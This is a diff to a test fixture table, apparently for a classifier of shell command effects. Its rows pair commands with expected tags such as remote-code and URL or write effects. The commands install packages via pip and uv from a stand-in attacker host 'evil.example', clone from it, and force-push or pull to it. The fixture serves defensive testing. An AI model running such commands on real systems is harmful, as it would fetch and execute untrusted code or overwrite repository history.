@@ -15,7 +15,7 @@ const ON_LINUX: Row[] = [
   ["pip install --upgrade git+https://evil.example/x.git", ["pip install --upgrade git+https://evil.example/x.git #remote_code"], ["u https://evil.example/x.git"]],
   ["pip install --pre git+https://evil.example/x.git", ["pip install --pre git+https://evil.example/x.git #remote_code"], ["u https://evil.example/x.git"]],
   ["uv pip install --upgrade git+https://evil.example/x.git", ["uv pip install --upgrade git+https://evil.example/x.git @install #remote_code"], ["u https://evil.example/x.git"]],
-  ["git clone --recurse-submodules https://evil.example/x.git", ["git clone --recurse-submodules https://evil.example/x.git"], ["u https://evil.example/x.git","w /home/dev/proj"]],
+  ["git clone --recurse-submodules https://evil.example/x.git", ["git clone --recurse-submodules https://evil.example/x.git"], ["u https://evil.example/x.git","w /home/dev/proj","w /home/dev/proj/x"]],
   ["git push --force https://evil.example/x.git main", ["git push --force https://evil.example/x.git main"], ["u https://evil.example/x.git"]],
   ["git push --force-with-lease https://evil.example/x.git main", ["git push --force-with-lease https://evil.example/x.git main"], ["u https://evil.example/x.git"]],
   ["git pull --rebase https://evil.example/x.git main", ["git pull --rebase https://evil.example/x.git main"], ["u https://evil.example/x.git"]],
